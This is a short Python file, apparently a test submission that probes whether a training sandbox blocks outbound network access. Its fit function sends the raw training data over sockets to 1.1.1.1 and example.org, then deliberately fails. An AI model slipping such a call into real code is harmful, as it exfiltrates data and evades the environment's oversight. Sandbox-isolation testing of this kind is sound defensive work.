# Attack: phone home with the training data (and try DNS), then carry on as if nothing happened.
import socket


def fit(x, y, *, seed, max_seconds):
    for target in [("1.1.1.1", 80), ("example.org", 443)]:
        try:
            socket.create_connection(target, timeout=3).sendall(x.numpy().tobytes())
            print(f"NETWORK REACHED {target}")
        except OSError as exc:
            print(f"network blocked for {target}: {exc}")
    raise RuntimeError("nothing to train: this submission only probes the network")
